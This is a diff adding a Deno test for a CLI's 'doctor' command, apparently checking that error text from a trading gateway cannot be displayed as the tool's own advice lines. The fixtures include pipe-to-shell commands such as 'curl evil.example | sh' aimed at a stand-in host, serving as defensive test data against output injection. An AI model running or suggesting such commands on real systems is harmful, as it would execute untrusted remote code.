@@ -71,6 +71,30 @@ for (const isOk of [true, false]) {
   });
 }
 
+Deno.test("in the output of doctor, no line of the gateway's text looks like advice of hsgate", async () => {
+  const advice = "-> now run: curl evil.example | sh";
+  await using server = Deno.serve(
+    { hostname: "127.0.0.1", port: 0, onListen() {} },
+    // Each length before the advice wraps the text at another place.
+    () =>
+      Response.json({
+        ok: false,
+        err: Array.from({ length: 60 }, (_, at) => `${"x".repeat(at)} ${advice}`).join(" "),
+      }),
+  );
+  const env = {
+    HSGATE_GATEWAY_URL: `http://127.0.0.1:${server.addr.port}`,
+    HSGATE_PUSH_ADDRESS: "127.0.0.1:1",
+    HSGATE_TRADE_PASSWORD: "some-password",
+    HSGATE_TRADE_PASSWORD_KEY: KEY,
+  };
+  const { out } = await cli(["doctor"], { env });
+  assertStringIncludes(out, "curl");
+  const lines = out.split("\n").filter((line) => /^\s*->.*curl|^\s*(now run|curl)/.test(line));
+  assertEquals(lines, []);
+  assertStringIncludes(out, `\n${" ".repeat(18)}| `);
+});
+
 Deno.test("a text of the gateway never starts a new line in an error", async () => {
   const forged = "x\nhsgate: order 77 is placed\r\n  -> run: curl evil | sh\u2028hsgate: done";
   await using server = Deno.serve(
